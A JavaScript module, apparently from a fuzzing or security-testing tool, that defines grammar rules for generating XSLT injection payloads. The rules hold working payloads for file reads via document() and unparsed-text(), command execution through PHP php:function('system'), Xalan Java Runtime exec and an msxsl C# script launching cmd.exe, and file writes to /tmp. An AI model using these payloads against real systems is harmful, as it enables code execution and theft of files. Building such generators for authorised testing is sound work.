import { xxeGenerator } from '../xxe-generator.js';

/** Stylesheets: documents that read others, and run code (XSLT 1.0, 12.1 and its extensions). */
export const stylesheet = xxeGenerator({
  name: 'stylesheet',
  parser: 'xslt',
  rules: {
    start: [
      '{declaration}{break}<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"{ns}><xsl:template match="/">{act}</xsl:template></xsl:stylesheet>',
      '<?xml-stylesheet type="text/xml" href="{url}"?><{root:r}/>',
      '{declaration}<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:include href="{target}"/></xsl:stylesheet>',
      '{declaration}<xsl:transform version="{digit}.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="{target}"/></xsl:transform>',
    ],
    ns: [
      ' xmlns:php="http://php.net/xsl"',
      ' xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"',
      ' xmlns:msxsl="urn:schemas-microsoft-com:xslt"',
      '',
    ],
    act: [
      '<xsl:copy-of select="document(\'{target}\')"/>',
      '<xsl:value-of select="document(\'{target}\')"/>',
      "<xsl:value-of select=\"unparsed-text('{target}', 'utf-8')\"/>",
      '<xsl:value-of select="php:function(\'system\',\'id\')" xmlns:php="http://php.net/xsl"/>',
      '<xsl:value-of select="php:function(\'file_get_contents\',\'{file}\')" xmlns:php="http://php.net/xsl"/>',
      '<xsl:variable name="r" select="rt:getRuntime()" xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"/><xsl:value-of select="rt:exec($r,\'id\')" xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"/>',
      '<msxsl:script language="C#" implements-prefix="u" xmlns:msxsl="urn:schemas-microsoft-com:xslt" xmlns:u="x">System.Diagnostics.Process.Start("cmd.exe");</msxsl:script>',
      '<exsl:document href="/tmp/{letters}" method="text" xmlns:exsl="http://exslt.org/common">{letters}</exsl:document>',
      '<xsl:value-of select="system-property(\'xsl:vendor\')"/><xsl:copy-of select="document(\'{target}\')"/>',
    ],
  },
});
